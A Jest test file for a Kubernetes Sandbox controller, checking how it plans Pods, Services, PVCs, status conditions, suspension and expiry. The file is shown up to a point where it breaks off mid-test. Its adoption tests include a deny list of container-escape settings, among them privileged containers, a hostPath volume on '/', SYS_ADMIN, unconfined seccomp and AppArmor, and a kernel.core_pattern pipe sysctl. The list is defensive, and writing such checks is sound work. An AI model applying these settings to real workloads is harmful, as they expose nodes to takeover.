import { SandboxAnnotations, SandboxLabels } from '#api/labels';
import { NameHash } from '#api/name-hash';
import { NOW, condition, foreignRef, observed, pod, pvc, sandbox, service, vct } from './fixtures';
import { buildPod } from '../../../src/controllers/sandbox/desired';
import { planSandbox, invalidConfiguration, type Action, type Plan } from '../../../src/controllers/sandbox/plan';
import { type Condition, type Pod, type PodSpec, type Sandbox, type Service } from '../../../src/model';

const POD_NAME = { [SandboxAnnotations.POD_NAME]: 'my-sandbox' };
const READY_TRUE: Condition = { type: 'Ready', status: 'True', reason: 'DependenciesReady', message: 'Pod is Ready', lastTransitionTime: '2026-09-01T11:00:00Z', observedGeneration: 1 };

/** `op kind name` per action, e.g. `create pod my-sandbox`, `patch-sandbox`. */
function summary(actions: readonly Action[]): string[] {
  return actions.map((a) => {
    if (a.op === 'create') return `create ${a.kind} ${a.object.metadata.name}`;
    if (a.op === 'patch' || a.op === 'delete') return `${a.op} ${a.kind} ${a.name}`;
    return a.op;
  });
}

interface Case {
  readonly name: string;
  readonly sandbox: Sandbox;
  readonly pods?: Pod[];
  readonly service?: Service;
  readonly pvcs?: ReturnType<typeof pvc>[];
  readonly actions: string[];
  readonly ready: [string, string] | [string, string, string];
  readonly suspended?: [string, string];
  readonly podScheduled?: [string, string] | null;
  readonly finished?: [string, string] | null;
  readonly check?: (plan: Plan) => void;
}

const running = (spec: Parameters<typeof sandbox>[0] = {}) => sandbox({ annotations: POD_NAME, ...spec });
/** `p` with its spec replaced (undefined: the slim spec the informer cache keeps, nodeName only). */
const withSpec = (p: Pod, spec: Partial<PodSpec> | undefined): Pod => ({ ...p, spec: spec === undefined ? { nodeName: 'kwok-node-0' } as PodSpec : { nodeName: 'kwok-node-0', containers: [], ...spec } });
/** The refusal message planSandbox gives for unowned Pod `p`. */
const refusalOf = (p: Pod) => planSandbox(observed(running(), { pods: [p] })).problem!.message;
const withService = (value: boolean | undefined, extra: Parameters<typeof sandbox>[0] = {}) =>
  running({ ...extra, spec: { ...(value === undefined ? {} : { service: value }), ...extra.spec } });

const CASES: Case[] = [
  // --- The Pod, Running mode ---
  {
    name: 'new Sandbox: create its Pod and record the pod-name annotation',
    sandbox: sandbox(),
    actions: ['create pod my-sandbox', 'patch-sandbox'],
    ready: ['False', 'DependenciesNotReady', 'Pod does not exist'],
    suspended: ['False', 'NotSuspended'],
    podScheduled: null,
    check: (plan) => {
      expect(plan.status.selector).toBeUndefined();
      // The status is written by the pass the new Pod's ADDED event triggers.
      expect(plan.writeStatus).toBe(false);
    },
  },
  {
    name: 'unschedulable Pod: PodScheduled mirrors its reason and message',
    sandbox: running(),
    pods: [pod({ phase: 'Pending', ready: false, ips: [], nodeName: '', scheduled: { status: 'False', reason: 'Unschedulable', message: '0/3 nodes' } })],
    actions: [],
    ready: ['False', 'DependenciesNotReady', 'Pod exists with phase: Pending'],
    podScheduled: ['False', 'Unschedulable'],
    check: (plan) => expect(plan.status.selector).toBe('agents.x-k8s.io/sandbox-name-hash=374de8f5'),
  },
  {
    name: 'Pod without a PodScheduled condition: Unknown/PodSchedulingUnknown',
    sandbox: running(),
    pods: [pod({ phase: 'Pending', ready: false, ips: [], scheduled: null })],
    actions: [],
    ready: ['False', 'DependenciesNotReady', 'Pod exists with phase: Pending'],
    podScheduled: ['Unknown', 'PodSchedulingUnknown'],
  },
  {
    name: 'scheduled without a reason: PodScheduled/PodScheduled',
    sandbox: running(),
    pods: [pod({ ready: false })],
    actions: [],
    ready: ['False', 'DependenciesNotReady', 'Pod is Running but not Ready'],
    podScheduled: ['True', 'PodScheduled'],
  },
  {
    name: 'Ready Pod without IPs is not enough',
    sandbox: running(),
    pods: [pod({ ips: [] })],
    actions: [],
    ready: ['False', 'DependenciesNotReady', 'Pod is Ready but has no podIPs yet'],
  },
  {
    name: 'Ready Pod with IPs: Ready, with IPs, node and selector in status',
    sandbox: running(),
    pods: [pod({ ips: ['127.64.0.9'], nodeName: 'kwok-node-2' })],
    actions: [],
    ready: ['True', 'DependenciesReady', 'Pod is Ready'],
    check: (plan) => expect(plan.status).toMatchObject({ podIPs: ['127.64.0.9'], nodeName: 'kwok-node-2', selector: 'agents.x-k8s.io/sandbox-name-hash=374de8f5' }),
  },
  {
    name: 'Succeeded Pod is not recreated: Ready=False/PodSucceeded, Finished=True',
    sandbox: running(),
    pods: [pod({ phase: 'Succeeded', ready: false })],
    actions: [],
    ready: ['False', 'PodSucceeded', 'Pod completed successfully'],
    finished: ['True', 'PodSucceeded'],
  },
  {
    name: 'Failed Pod: Ready=False/PodFailed, Finished=True/PodFailed',
    sandbox: running(),
    pods: [pod({ phase: 'Failed', ready: false })],
    actions: [],
    ready: ['False', 'PodFailed', 'Pod failed'],
    finished: ['True', 'PodFailed'],
  },
  {
    name: 'terminating Pod: not Ready, not recreated until gone',
    sandbox: running(),
    pods: [pod({ deleting: true })],
    actions: [],
    ready: ['False', 'DependenciesNotReady', 'Pod is terminating'],
  },
  {
    name: 'two Pods controlled by the Sandbox: MultiplePods, nothing written, Service untouched',
    sandbox: withService(false),
    pods: [pod(), pod({ name: 'my-sandbox-2', uid: 'uid-2' })],
    service: service(),
    actions: [],
    ready: ['False', 'MultiplePods'],
    check: (plan) => {
      expect(plan.event).toEqual({ reason: 'MultiplePods', note: expect.stringContaining('my-sandbox, my-sandbox-2') });
      expect(plan.status.podIPs).toBeUndefined();
      expect(plan.requeueAfterMs).toBeUndefined();
    },
  },
  {
    name: 'MultiplePods already reported: no second event',
    sandbox: running({ conditions: [{ ...READY_TRUE, status: 'False', reason: 'MultiplePods' }] }),
    pods: [pod(), pod({ name: 'b', uid: 'uid-b' })],
    actions: [],
    ready: ['False', 'MultiplePods'],
    check: (plan) => expect(plan.event).toBeUndefined(),
  },
  {
    name: 'Pod named like the Sandbox but controlled by a ReplicaSet: error, annotation cleared',
    sandbox: running(),
    pods: [pod({ owner: foreignRef() })],
    actions: ['patch-sandbox'],
    ready: ['False', 'ReconcilerError', 'Error seen: Pod "my-sandbox" is controlled by ReplicaSet "other", not by this Sandbox'],
  },
  {
    name: 'unowned Pod without our hash label: refused, with a Warning event',
    sandbox: running(),
    pods: [pod({ owner: null, labels: { app: 'x' } })],
    actions: [],
    ready: ['False', 'ReconcilerError'],
    check: (plan) => {
      expect(plan.problem?.message).toContain('Pod "my-sandbox" exists and no controller owns it, and it does not carry this Sandbox\'s label agents.x-k8s.io/sandbox-name-hash=374de8f5');
      expect(plan.problem?.message).toContain('delete the Pod and the Sandbox creates its own');
      expect(plan.event).toEqual({ reason: 'PodAdoptionRefused', note: plan.problem?.message });
    },
  },
  {
    name: 'unowned Pod labelled adoptable=true but without our hash: refused (the label does not make a Pod adoptable)',
    sandbox: running(),
    pods: [pod({ owner: null, labels: { [SandboxLabels.ADOPTABLE]: 'true' } })],
    actions: [],
    ready: ['False', 'ReconcilerError'],
    suspended: ['False', 'NotSuspended'],
    check: (plan) => {
      expect(plan.problem?.message).toContain('agents.x-k8s.io/adoptable=true does not make a Pod adoptable');
      expect(plan.status.podIPs).toBeUndefined();
      expect(plan.status.nodeName).toBeUndefined();
    },
  },
  {
    name: 'unowned Pod already carrying our hash (lost its ownerReference), hardened: adopted with a resourceVersion precondition',
    sandbox: running(),
    pods: [pod({ owner: null, labels: { [SandboxLabels.SANDBOX_NAME_HASH]: '374de8f5', [SandboxLabels.ADOPTABLE]: 'true' } })],
    actions: ['patch pod my-sandbox'],
    ready: ['True', 'DependenciesReady'],
    check: (plan) => {
      const patch = (plan.actions[0] as { patch: { metadata: Record<string, any> } }).patch.metadata;
      expect(patch.resourceVersion).toBe('10');
      expect(patch.ownerReferences).toEqual([expect.objectContaining({ kind: 'Sandbox', uid: 'uid-sandbox-1', controller: true })]);
      expect(patch.labels[SandboxLabels.SANDBOX_NAME_HASH]).toBe('374de8f5');
      expect(plan.event).toBeUndefined();
    },
  },
  {
    name: 'unowned Pod with our hash, privileged and on the host network: refused, naming what it breaks; no node address reported',
    sandbox: running(),
    pods: [withSpec(pod({ owner: null, ips: ['10.0.0.5'] }), { hostNetwork: true, containers: [{ name: 'main', securityContext: { privileged: true } }] })],
    actions: [],
    ready: ['False', 'ReconcilerError'],
    check: (plan) => {
      expect(plan.problem?.message).toContain('Pod "my-sandbox" exists and no controller owns it, but it is not adopted: its spec breaks the hardening rules');
      expect(plan.problem?.message).toContain('spec.hostNetwork is true; spec.containers[0].securityContext.privileged (container "main") is true');
      expect(plan.status.podIPs).toBeUndefined();
      expect(plan.event?.reason).toBe('PodAdoptionRefused');
    },
  },
  {
    name: 'unowned Pod with our hash as the cache holds it (no spec): no decision until the live Pod is read',
    sandbox: running(),
    pods: [withSpec(pod({ owner: null }), undefined)],
    actions: [],
    ready: ['False', 'DependenciesNotReady'],
    check: (plan) => {
      expect(plan.inspectPod).toBe('my-sandbox');
      expect(plan.event).toBeUndefined();
    },
  },
  {
    name: 'a refused adoption already reported: no second event',
    sandbox: running({ conditions: [{ ...READY_TRUE, status: 'False', reason: 'ReconcilerError', message: `Error seen: ${refusalOf(pod({ owner: null, labels: {} }))}` }] }),
    pods: [pod({ owner: null, labels: {} })],
    actions: [],
    ready: ['False', 'ReconcilerError'],
    check: (plan) => expect(plan.event).toBeUndefined(),
  },
  {
    name: 'owned Pod, annotation names another Pod: the owner UID wins, annotation fixed',
    sandbox: sandbox({ annotations: { [SandboxAnnotations.POD_NAME]: 'old-pod' } }),
    pods: [pod()],
    actions: ['patch-sandbox'],
    ready: ['True', 'DependenciesReady'],
  },
  {
    name: 'owned Pod with a tampered hash label: metadata patched back',
    sandbox: running(),
    pods: [pod({ labels: { [SandboxLabels.SANDBOX_NAME_HASH]: 'deadbeef' } })],
    actions: ['patch pod my-sandbox'],
    ready: ['True', 'DependenciesReady'],
  },
  // --- The Service ---
  {
    name: 'service: true and missing: created; Ready needs it and says so',
    sandbox: withService(true),
    pods: [pod()],
    actions: ['create service my-sandbox'],
    ready: ['True', 'DependenciesReady', 'Pod is Ready; Service Exists'],
    check: (plan) => expect(plan.status).toMatchObject({ service: 'my-sandbox', serviceFQDN: 'my-sandbox.team-a.svc.cluster.local' }),
  },
  {
    name: 'service: true, owned Service with a foreign selector: patched',
    sandbox: withService(true),
    pods: [pod()],
    service: service(sandbox(), {}, { selector: { app: 'other' } }),
    actions: ['patch service my-sandbox'],
    ready: ['True', 'DependenciesReady'],
  },
  {
    name: 'service: true, Service controlled by someone else: error, Ready=False',
    sandbox: withService(true),
    pods: [pod()],
    service: service(foreignRef('Gateway', 'gw')),
    actions: [],
    ready: ['False', 'ReconcilerError', 'Error seen: Service "my-sandbox" is controlled by Gateway "gw", not by this Sandbox'],
  },
  {
    name: 'service: true, unowned adoptable headless Service: adopted',
    sandbox: withService(true),
    pods: [pod()],
    service: service(null, { labels: { [SandboxLabels.ADOPTABLE]: 'true' } }, { selector: {} }),
    actions: ['patch service my-sandbox'],
    ready: ['True', 'DependenciesReady'],
  },
  {
    name: 'service: true, unowned adoptable Service with a cluster IP: refused',
    sandbox: withService(true),
    pods: [pod()],
    service: service(null, { labels: { [SandboxLabels.ADOPTABLE]: 'true' } }, { clusterIP: '10.0.0.1' }),
    actions: [],
    ready: ['False', 'ReconcilerError'],
  },
  {
    name: 'service unset, owned Service: kept, required, selector drift patched',
    sandbox: withService(undefined),
    pods: [pod()],
    service: service(sandbox(), {}, { selector: { [SandboxLabels.SANDBOX_NAME_HASH]: 'x' } }),
    actions: ['patch service my-sandbox'],
    ready: ['True', 'DependenciesReady', 'Pod is Ready; Service Exists'],
    check: (plan) => expect(plan.status.service).toBe('my-sandbox'),
  },
  {
    name: 'service unset, owned Service with other ports: ports left alone',
    sandbox: withService(undefined, { spec: { podTemplate: { spec: { containers: [{ name: 'a', ports: [{ containerPort: 80 }] }] } } } }),
    pods: [pod()],
    service: service(),
    actions: [],
    ready: ['True', 'DependenciesReady'],
  },
  {
    name: 'service unset, none: none created, not required',
    sandbox: withService(undefined),
    pods: [pod()],
    actions: [],
    ready: ['True', 'DependenciesReady', 'Pod is Ready'],
    check: (plan) => expect(plan.status.service).toBeUndefined(),
  },
  {
    name: 'service unset, unowned Service: ignored',
    sandbox: withService(undefined),
    pods: [pod()],
    service: service(null),
    actions: [],
    ready: ['True', 'DependenciesReady', 'Pod is Ready'],
  },
  {
    name: 'service unset, Service controlled by someone else: error (as upstream)',
    sandbox: withService(undefined),
    pods: [pod()],
    service: service(foreignRef()),
    actions: [],
    ready: ['False', 'ReconcilerError'],
  },
  {
    name: 'service: false, owned Service: deleted, status cleared',
    sandbox: withService(false, { status: { service: 'my-sandbox', serviceFQDN: 'my-sandbox.team-a.svc.cluster.local' } }),
    pods: [pod()],
    service: service(),
    actions: ['delete service my-sandbox'],
    ready: ['True', 'DependenciesReady', 'Pod is Ready'],
    check: (plan) => {
      expect(plan.status.service).toBeUndefined();
      expect((plan.actions[0] as { uid: string }).uid).toBe('uid-svc-my-sandbox');
    },
  },
  {
    name: 'service: false, unowned Service: left alone',
    sandbox: withService(false),
    pods: [pod()],
    service: service(null),
    actions: [],
    ready: ['True', 'DependenciesReady'],
  },
  // --- PVCs ---
  {
    name: 'claim templates: PVCs created before the Pod',
    sandbox: sandbox({ spec: { volumeClaimTemplates: [vct('data'), vct('cache')] } }),
    actions: ['create pvc data-my-sandbox', 'create pvc cache-my-sandbox', 'create pod my-sandbox', 'patch-sandbox'],
    ready: ['False', 'DependenciesNotReady'],
  },
  {
    name: 'owned PVC: nothing to do',
    sandbox: running({ spec: { volumeClaimTemplates: [vct('data')] } }),
    pods: [pod()],
    pvcs: [pvc('data-my-sandbox')],
    actions: [],
    ready: ['True', 'DependenciesReady'],
  },
  {
    name: 'PVC controlled by someone else: error and no Pod (it would mount a foreign volume)',
    sandbox: sandbox({ spec: { volumeClaimTemplates: [vct('data')] } }),
    pvcs: [pvc('data-my-sandbox', foreignRef('StatefulSet', 'db'))],
    actions: [],
    ready: ['False', 'ReconcilerError', 'Error seen: PersistentVolumeClaim "data-my-sandbox" is controlled by StatefulSet "db", not by this Sandbox'],
  },
  {
    name: 'unowned adoptable PVC: adopted, then the Pod',
    sandbox: sandbox({ spec: { volumeClaimTemplates: [vct('data')] } }),
    pvcs: [pvc('data-my-sandbox', null, { [SandboxLabels.ADOPTABLE]: 'true' })],
    actions: ['patch pvc data-my-sandbox', 'create pod my-sandbox', 'patch-sandbox'],
    ready: ['False', 'DependenciesNotReady'],
  },
  {
    name: 'unowned PVC without the label: refused',
    sandbox: sandbox({ spec: { volumeClaimTemplates: [vct('data')] } }),
    pvcs: [pvc('data-my-sandbox', null)],
    actions: [],
    ready: ['False', 'ReconcilerError'],
  },
  // --- Suspend and resume ---
  {
    name: 'Suspended with a running Pod: delete it (uid precondition), keep PVCs and Service',
    sandbox: running({ spec: { operatingMode: 'Suspended', service: true, volumeClaimTemplates: [vct('data')] } }),
    pods: [pod()],
    service: service(),
    pvcs: [pvc('data-my-sandbox')],
    actions: ['delete pod my-sandbox'],
    ready: ['False', 'SandboxSuspended', 'Sandbox is suspending'],
    suspended: ['False', 'PodTerminating'],
    check: (plan) => expect((plan.actions[0] as { uid: string }).uid).toBe('uid-pod-my-sandbox'),
  },
  {
    name: 'Suspended, Pod already terminating: no second delete',
    sandbox: running({ spec: { operatingMode: 'Suspended' } }),
    pods: [pod({ deleting: true })],
    actions: [],
    ready: ['False', 'SandboxSuspended', 'Sandbox is suspending'],
    suspended: ['False', 'PodTerminating'],
  },
  {
    name: 'Suspended, Pod gone: Suspended=True, annotation cleared, selector kept, pod fields cleared',
    sandbox: running({ spec: { operatingMode: 'Suspended', service: true }, status: { selector: 'agents.x-k8s.io/sandbox-name-hash=374de8f5', podIPs: ['127.64.0.7'], nodeName: 'n' } }),
    service: service(),
    actions: ['patch-sandbox'],
    ready: ['False', 'SandboxSuspended', 'Sandbox is suspended'],
    suspended: ['True', 'PodTerminated'],
    podScheduled: null,
    check: (plan) => {
      expect(plan.status.selector).toBe('agents.x-k8s.io/sandbox-name-hash=374de8f5');
      expect(plan.status.podIPs).toBeUndefined();
      expect(plan.status.nodeName).toBeUndefined();
      expect(plan.status.service).toBe('my-sandbox');
    },
  },
  {
    name: 'Suspended, a foreign Pod has the name: not deleted, PodNotOwned',
    sandbox: sandbox({ spec: { operatingMode: 'Suspended' } }),
    pods: [pod({ owner: foreignRef() })],
    actions: [],
    ready: ['False', 'SandboxSuspended'],
    suspended: ['False', 'PodNotOwned'],
  },
  {
    name: 'Suspended with two owned Pods: both deleted (none is wanted, so none is ambiguous)',
    sandbox: running({ spec: { operatingMode: 'Suspended' } }),
    pods: [pod(), pod({ name: 'b', uid: 'uid-b' })],
    actions: ['delete pod my-sandbox', 'delete pod b'],
    ready: ['False', 'SandboxSuspended'],
    suspended: ['False', 'PodTerminating'],
  },
  {
    name: 'resumed (Running again, no Pod): a fresh Pod with the same claim volumes',
    sandbox: sandbox({ spec: { operatingMode: 'Running', volumeClaimTemplates: [vct('data')] }, conditions: [{ ...READY_TRUE, status: 'False', reason: 'SandboxSuspended' }] }),
    pvcs: [pvc('data-my-sandbox')],
    actions: ['create pod my-sandbox', 'patch-sandbox'],
    ready: ['False', 'DependenciesNotReady', 'Pod does not exist'],
    suspended: ['False', 'NotSuspended'],
  },
];

describe('planSandbox', () => {
  test.each(CASES.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const plan = planSandbox(observed(c.sandbox, { pods: c.pods, service: c.service, pvcs: c.pvcs }));
    expect(summary(plan.actions)).toEqual(c.actions);
    const ready = condition(plan.status.conditions, 'Ready');
    expect([ready?.status, ready?.reason, ...(c.ready.length > 2 ? [ready?.message] : [])]).toEqual(c.ready);
    if (c.suspended) expect([condition(plan.status.conditions, 'Suspended')?.status, condition(plan.status.conditions, 'Suspended')?.reason]).toEqual(c.suspended);
    if (c.podScheduled !== undefined) {
      const ps = condition(plan.status.conditions, 'PodScheduled');
      expect(ps ? [ps.status, ps.reason] : null).toEqual(c.podScheduled);
    }
    if (c.finished !== undefined) {
      const f = condition(plan.status.conditions, 'Finished');
      expect(f ? [f.status, f.reason] : null).toEqual(c.finished);
    }
    for (const cond of plan.status.conditions ?? []) expect(cond.observedGeneration).toBe(c.sandbox.metadata.generation);
    c.check?.(plan);
  });
});

describe('planSandbox: shutdownTime', () => {
  const at = (offsetMs: number) => new Date(NOW + offsetMs).toISOString();

  test('before expiry the timer is the exact time left, not a poll', () => {
    const plan = planSandbox(observed(running({ spec: { shutdownTime: at(90_500) } }), { pods: [pod()] }));
    expect(plan.requeueAfterMs).toBe(90_500);
    expect(plan.actions).toEqual([]);
  });

  test('no shutdownTime, no timer', () => {
    expect(planSandbox(observed(running(), { pods: [pod()] })).requeueAfterMs).toBeUndefined();
  });

  test('Retain: Pod and Service deleted, status reduced to conditions, Ready=False/SandboxExpired', () => {
    const sb = running({
      spec: { shutdownTime: at(0), service: true },
      status: { podIPs: ['127.64.0.7'], nodeName: 'n', selector: 's', service: 'my-sandbox', serviceFQDN: 'f' },
      conditions: [
        READY_TRUE,
        { type: 'PodScheduled', status: 'True', reason: 'PodScheduled', message: '', lastTransitionTime: 'x' },
        { type: 'Finished', status: 'True', reason: 'PodSucceeded', message: '', lastTransitionTime: 'x' },
      ],
    });
    const plan = planSandbox(observed(sb, { pods: [pod(), pod({ name: 'foreign', owner: foreignRef() })], service: service() }));
    expect(summary(plan.actions)).toEqual(['delete pod my-sandbox', 'delete service my-sandbox']);
    expect(Object.keys(plan.status)).toEqual(['conditions']);
    expect(plan.status.conditions!.map((c) => c.type)).toEqual(['Ready', 'Finished']);
    expect(condition(plan.status.conditions, 'Ready')).toMatchObject({ status: 'False', reason: 'SandboxExpired', message: 'Sandbox has expired' });
    expect(plan.writeStatus).toBe(true);
    expect(plan.requeueAfterMs).toBeUndefined();
  });

  test('Retain, already expired and torn down: nothing to write, nothing to requeue', () => {
    const sb = running({
      spec: { shutdownTime: at(-60_000) },
      conditions: [{ type: 'Ready', status: 'False', reason: 'SandboxExpired', message: 'Sandbox has expired', lastTransitionTime: 'x', observedGeneration: 1 }],
    });
    const plan = planSandbox(observed(sb, { pods: [pod({ deleting: true })] }));
    expect(plan.actions).toEqual([]);
    expect(plan.writeStatus).toBe(false);
    expect(plan.requeueAfterMs).toBeUndefined();
  });

  test('Delete: one write, the Sandbox itself (garbage collection takes the rest)', () => {
    const plan = planSandbox(observed(running({ spec: { shutdownTime: at(-1), shutdownPolicy: 'Delete' } }), { pods: [pod()], service: service() }));
    expect(plan.actions).toEqual([{ op: 'delete-sandbox', uid: 'uid-sandbox-1' }]);
    expect(plan.writeStatus).toBe(false);
  });
});

describe('planSandbox: InvalidConfiguration', () => {
  test.each([
    ['service: true with a name that is not a DNS-1035 label', sandbox({ name: '1-starts-with-digit', spec: { service: true } }), 'spec.service is true'],
    ['service: true with a 64-character name', sandbox({ name: 'a'.repeat(64), spec: { service: true } }), 'at most 63 characters'],
    ['claim template without a name', sandbox({ spec: { volumeClaimTemplates: [vct(undefined)] } }), 'spec.volumeClaimTemplates[0].metadata.name is required'],
    ['claim template name not a volume name', sandbox({ spec: { volumeClaimTemplates: [vct('Data_1')] } }), 'the volume name'],
    ['two claim templates with one name', sandbox({ spec: { volumeClaimTemplates: [vct('d'), vct('d')] } }), 'used by two claim templates'],
    ['PVC name longer than 253', sandbox({ name: 'a'.repeat(250), spec: { volumeClaimTemplates: [vct('data')] } }), 'the PVC name'],
    ['shutdownTime not a time', sandbox({ spec: { shutdownTime: 'tomorrow' } }), 'not an RFC 3339 time'],
  ])('%s: Ready=False/InvalidConfiguration, nothing created, no retry', (_name, sb, fragment) => {
    const plan = planSandbox(observed(sb));
    expect(plan.actions).toEqual([]);
    expect(condition(plan.status.conditions, 'Ready')).toMatchObject({ status: 'False', reason: 'InvalidConfiguration', message: expect.stringContaining(fragment) });
    expect(plan.requeueAfterMs).toBeUndefined();
  });

  test('names that are fine are not flagged', () => {
    expect(invalidConfiguration(sandbox({ name: 'a'.repeat(63), spec: { service: true, volumeClaimTemplates: [vct('data')] } }))).toBeUndefined();
    expect(invalidConfiguration(sandbox({ name: '1-digit-is-fine-without-a-service' }))).toBeUndefined();
  });

  test('an existing Pod is still reported (and its metadata kept in line), never deleted', () => {
    const sb = sandbox({ name: 'Bad', annotations: { [SandboxAnnotations.POD_NAME]: 'Bad' }, spec: { service: true } });
    const plan = planSandbox(observed(sb, { pods: [pod({ owner: sb, name: 'Bad' })] }));
    expect(plan.actions).toEqual([]);
    expect(plan.status.podIPs).toEqual(['127.64.0.7']);
  });

  test('a Sandbox whose Pod would carry the router\'s labels: InvalidConfiguration naming the label and the fix, no Pod; an existing Pod keeps its labels', () => {
    const spoof = (extra: Parameters<typeof sandbox>[0] = {}): Sandbox => {
      const sb = sandbox(extra);
      return { ...sb, spec: { ...sb.spec, podTemplate: { ...sb.spec.podTemplate, metadata: { labels: { app: 'sandbox-router', team: 'a' } } } } };
    };
    const plan = planSandbox(observed(spoof()));
    expect(plan.actions).toEqual([]);
    expect(condition(plan.status.conditions, 'Ready')).toMatchObject({
      status: 'False', reason: 'InvalidConfiguration', message: expect.stringMatching(/spec.podTemplate.metadata.labels carries app=sandbox-router.*remove it/),
    });
    const existing = spoof({ annotations: POD_NAME });
    expect(planSandbox(observed(existing, { pods: [pod({ owner: existing })] })).actions).toEqual([]);
    // Configured router labels: any one of them is refused (a template and a claim could each add one),
    // the default one no longer counts.
    const custom = { ...observed(spoof()), routerPodLabels: { app: 'sandbox-router', tier: 'edge' } };
    expect(planSandbox(custom).actions).toEqual([]);
    expect(summary(planSandbox({ ...observed(spoof()), routerPodLabels: { tier: 'edge' } }).actions)).toContain('create pod my-sandbox');
    expect(planSandbox({ ...observed(spoof()), routerPodLabels: { team: 'a' } }).actions).toEqual([]);
  });

  test('a rejection the API server reported sticks for that generation, and is retried after a spec edit', () => {
    const rejected: Condition = { type: 'Ready', status: 'False', reason: 'InvalidConfiguration', message: 'the API server rejected Pod', lastTransitionTime: 'x', observedGeneration: 3 };
    const notSuspended: Condition = { type: 'Suspended', status: 'False', reason: 'NotSuspended', message: 'Sandbox is not suspended', lastTransitionTime: 'x', observedGeneration: 3 };
    const same = planSandbox(observed(sandbox({ generation: 3, conditions: [notSuspended, rejected] })));
    expect(same.actions).toEqual([]);
    expect(same.writeStatus).toBe(false);
    const edited = planSandbox(observed(sandbox({ generation: 4, conditions: [rejected] })));
    expect(summary(edited.actions)).toEqual(['create pod my-sandbox', 'patch-sandbox']);
    expect(condition(edited.status.conditions, 'Ready')?.reason).toBe('DependenciesNotReady');
  });
});

describe('planSandbox: status writes', () => {
  test('an unchanged status is not written again', () => {
    const first = planSandbox(observed(running(), { pods: [pod()] }));
    const again = planSandbox(observed(running({ status: first.status }), { pods: [pod()] }));
    expect(first.writeStatus).toBe(true);
    expect(again.writeStatus).toBe(false);
  });

  test('lastTransitionTime survives a message change and moves when the status flips', () => {
    const sb = running({ conditions: [{ ...READY_TRUE, status: 'False', reason: 'DependenciesNotReady', message: 'Pod does not exist' }] });
    const stillNot = planSandbox(observed(sb, { pods: [pod({ ready: false })] }));
    expect(condition(stillNot.status.conditions, 'Ready')?.lastTransitionTime).toBe('2026-09-01T11:00:00Z');
    const ready = planSandbox(observed(sb, { pods: [pod()] }));
    expect(condition(ready.status.conditions, 'Ready')?.lastTransitionTime).toBe('2026-09-01T12:00:00Z');
  });
});

describe('planSandbox: adopting an unowned Pod that carries our hash', () => {
  const APPARMOR = 'container.apparmor.security.beta.kubernetes.io/main';
  const orphan = (spec: Partial<PodSpec>, annotations?: Record<string, string>) =>
    withSpec(pod({ owner: null, ...(annotations ? { annotations } : {}) }), spec);
  const main = (extra: Record<string, unknown>) => ({ name: 'main', image: 'busybox', ...extra });

  // [what, spec, pod annotations, what the refusal must name]
  const BREAKING: Array<[string, Partial<PodSpec>, Record<string, string> | undefined, string]> = [
    ['hostPID', { hostPID: true }, undefined, 'spec.hostPID is true'],
    ['hostIPC', { hostIPC: true }, undefined, 'spec.hostIPC is true'],
    ['a hostPath volume', { volumes: [{ name: 'tmp', emptyDir: {} }, { name: 'root', hostPath: { path: '/' } }] }, undefined, 'spec.volumes[1].hostPath (volume "root") is a node volume'],
    ['an nfs volume', { volumes: [{ name: 'share', nfs: { server: 'nfs', path: '/' } }] }, undefined, 'spec.volumes[0].nfs (volume "share")'],
    ['a hostPort', { containers: [main({ ports: [{ containerPort: 80, hostPort: 80 }] })] }, undefined, 'spec.containers[0].ports[*].hostPort (container "main") is set'],
    ['a privileged init container', { initContainers: [main({ name: 'setup', securityContext: { privileged: true } })] }, undefined,
      'spec.initContainers[0].securityContext.privileged (container "setup") is true'],
    ['a privileged ephemeral container', { ephemeralContainers: [main({ name: 'debug', securityContext: { privileged: true } })] }, undefined,
      'spec.ephemeralContainers[0].securityContext.privileged (container "debug") is true'],
    ['privilege escalation', { containers: [main({ securityContext: { allowPrivilegeEscalation: true } })] }, undefined, 'allowPrivilegeEscalation (container "main") is true'],
    ['SYS_ADMIN', { containers: [main({ securityContext: { capabilities: { add: ['CHOWN', 'cap_sys_admin'] } } })] }, undefined, 'capabilities.add (container "main") adds cap_sys_admin'],
    ['a Windows host process', { securityContext: { windowsOptions: { hostProcess: true } } }, undefined, 'spec.securityContext.windowsOptions.hostProcess is true'],
    ['seccomp Unconfined', { containers: [main({ securityContext: { seccompProfile: { type: 'Unconfined' } } })] }, undefined,
      'spec.containers[0].securityContext.seccompProfile.type (container "main") is Unconfined'],
    ['AppArmor Unconfined', { securityContext: { appArmorProfile: { type: 'Unconfined' } } }, undefined, 'spec.securityContext.appArmorProfile.type is Unconfined'],
    ['the AppArmor annotation unconfined', {}, { [APPARMOR]: 'unconfined' }, `metadata.annotations["${APPARMOR}"] is "unconfined"`],
    ['SELinux spc_t', { securityContext: { seLinuxOptions: { type: 'spc_t' } } }, undefined, 'spec.securityContext.seLinuxOptions sets a user, a role or type spc_t'],
    ['an unsafe sysctl', { securityContext: { sysctls: [{ name: 'kernel.core_pattern', value: '|/x' }] } }, undefined, 'sysctls[0].name "kernel.core_pattern" is not a safe sysctl'],
    ['procMount Unmasked', { containers: [main({ securityContext: { procMount: 'Unmasked' } })] }, undefined, 'procMount (container "main") is Unmasked'],
    ['a probe of another host', { containers: [main({ readinessProbe: { tcpSocket: { host: '10.0.0.1', port: 22 } } })] }, undefined,
      'spec.containers[0].readinessProbe.tcpSocket.host (container "main") is 10.0.0.1'],
  ];

  test.each(BREAKING)('%s: refused, naming it; nothing written to the Pod', (_, spec, annotations, named) => {
    const plan = planSandbox(observed(running(), { pods: [orphan(spec, annotations)] }));
    expect(plan.actions).toEqual([]);
    expect(plan.problem).toMatchObject({ reason: 'ReconcilerError', podStep: true });
    expect(plan.problem?.message).toContain(named);
    expect(plan.event?.reason).toBe('PodAdoptionRefused');
  });

  test('a Pod that keeps the rules with explicit safe values, and is the Pod the Sandbox describes, is adopted', () => {
    const spec: Partial<PodSpec> = {
      hostNetwork: false,
      automountServiceAccountToken: false,
      securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' }, appArmorProfile: { type: 'Localhost', localhostProfile: 'p' }, seLinuxOptions: { type: 'container_t', level: 's0' }, sysctls: [{ name: 'net.ipv4.tcp_syncookies', value: '1' }] },
      volumes: [{ name: 'tmp', emptyDir: {} }, { name: 'cm', configMap: { name: 'c' } }],
      containers: [main({
        ports: [{ containerPort: 80, hostPort: 0 }],
        securityContext: { privileged: false, allowPrivilegeEscalation: false, procMount: 'Default', capabilities: { drop: ['ALL'], add: ['NET_BIND_SERVICE', 'CAP_CHOWN'] } },
        livenessProbe: { httpGet: { port: 80, path: '/' } },
      })],
    };
